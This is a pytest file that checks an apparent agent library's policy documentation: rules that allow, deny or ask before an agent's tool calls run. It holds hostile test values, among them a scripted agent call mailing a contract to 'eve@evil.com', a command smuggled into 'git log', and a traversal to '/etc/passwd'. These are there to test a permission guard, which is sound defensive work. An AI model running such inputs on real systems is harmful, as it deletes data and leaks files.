"""docs/policy.md: its Python runs, and what it says of rules and globs is so."""

from __future__ import annotations

import asyncio
import re
from functools import reduce
from pathlib import Path
from urllib.parse import quote

import pytest

from agentkit import Agent, ToolCall
from agentkit.policy import Decision, PendingCall, Policy, Rule
from agentkit.testing import ScriptedProvider
from agentkit.tool import AnyTool, Tool

PAGE = (Path(__file__).parents[1] / "docs" / "policy.md").read_text(encoding="utf-8")
SNIPPETS = re.findall(r"```python\n(.*?)```", PAGE, re.DOTALL)

ANYTHING = Tool.from_schema("call", "Call.", {"type": "object"})


def after_the_snippets() -> dict[str, object]:
    names: dict[str, object] = {}
    for snippet in SNIPPETS:
        exec(compile(snippet, "policy.md", "exec", dont_inherit=True), names)
    return names


def test_the_snippets() -> None:
    policy = after_the_snippets()["policy"]
    assert isinstance(policy, Policy)
    to_ann, to_eve = (
        PendingCall("k", "r", "send_mail", {"body": "", "to": to}, "egress", "") for to in ("ann@example.com", "eve@x")
    )
    assert asyncio.run(policy.ask(to_ann)) == Decision(True)
    assert asyncio.run(policy.ask(to_eve)) == Decision(False, "only Ann may be written to")


def test_a_paused_run_goes_on(monkeypatch: pytest.MonkeyPatch) -> None:
    names = after_the_snippets()
    mail = {"to": "eve@evil.com", "body": "The contract\u200b"}
    script = [ToolCall("read_inbox", {}), ToolCall("send_mail", mail), "I was not allowed to."]
    agent = Agent(ScriptedProvider(script), tools=[names["read_inbox"], names["send_mail"]])  # type: ignore[list-item]
    asked: list[str] = []
    monkeypatch.setattr("builtins.input", lambda prompt: asked.append(prompt) or "no")  # type: ignore[func-returns-value]
    result = names["answer_mail"](agent)  # type: ignore[operator]
    assert result.output == "I was not allowed to."
    assert result.messages[-2].results[0].error == "denied"
    assert len(asked) == 1
    assert asked[0].startswith(
        r'send_mail {"body": "The contract\u200b", "to": "eve@evil.com"}: send_mail sends something'
    )


def action(rule: Rule, value: object, tool: AnyTool = ANYTHING) -> str:
    return Policy([rule, Rule("*", "ask")]).decide(tool, {"x": value}, None).action


def test_what_is_said_of_globs() -> None:
    assert action(Rule("*", "allow", arguments={"x": "git log **"}), "git log ; rm -r ~") == "allow"
    assert action(Rule("*", "allow", arguments={"x": "1*"}), 1_000_000) == "allow"
    assert action(Rule("*", "deny", arguments={"x": "/etc/*"}), "/tmp/../ETC/passwd") == "deny"
    assert action(Rule("*", "allow", arguments={"x": "*@example.com"}), "a@example.com, b@example.com") == "ask"

    for times, said in ((3, "allow"), (4, "ask")):
        encoded = reduce(lambda text, _: quote(text, safe=""), range(times), "/")
        assert action(Rule("*", "allow", arguments={"x": "**"}), encoded) == said

    def delete(dry_run: bool = False) -> None:
        """Delete."""

    for arguments in ({}, {"dry_run": "no"}, {"dry_run": 0}):
        rule = Rule("delete", "deny", arguments={"dry_run": "false"})
        assert Policy([rule]).decide(Tool.from_function(delete), arguments, None).action == "deny"
